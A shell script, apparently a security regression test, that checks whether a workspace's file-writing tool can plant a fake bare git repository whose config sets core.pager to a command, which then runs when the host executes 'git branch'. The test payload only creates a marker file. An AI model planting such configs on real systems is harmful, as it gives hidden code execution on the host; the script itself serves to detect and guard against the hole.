#!/bin/sh
# The file tools alone (no wsrun, so no clean-up) made a directory git
# takes for a bare repository: mkdir src/objects src/refs, write src/HEAD
# and src/config with core.pager.  The host's next "git branch" (or git
# log) in /src ran the pager.
# Usage: review/bare_repo_file_tools.sh [BUILD_DIR]
B=${1:-build}/cmd
T=$(mktemp -d); W=$T/ws; mkdir $W; git -C $W init -q
o="--workspace $W"
$B/wswrite $o --mkdir src/objects >/dev/null 2>&1
$B/wswrite $o --mkdir src/refs/heads >/dev/null 2>&1
$B/wswrite $o --content "ref: refs/heads/main" src/HEAD >/dev/null 2>&1
$B/wswrite $o --content "$(printf '[core]\n\tpager = touch %s/PWNED; cat' $T)" src/config >/dev/null 2>&1
(cd $W/src && script -qc 'git branch' /dev/null >/dev/null 2>&1)
[ -e $T/PWNED ] && echo "VULNERABLE: git branch in /src ran core.pager" || echo "held"
rm -rf $T
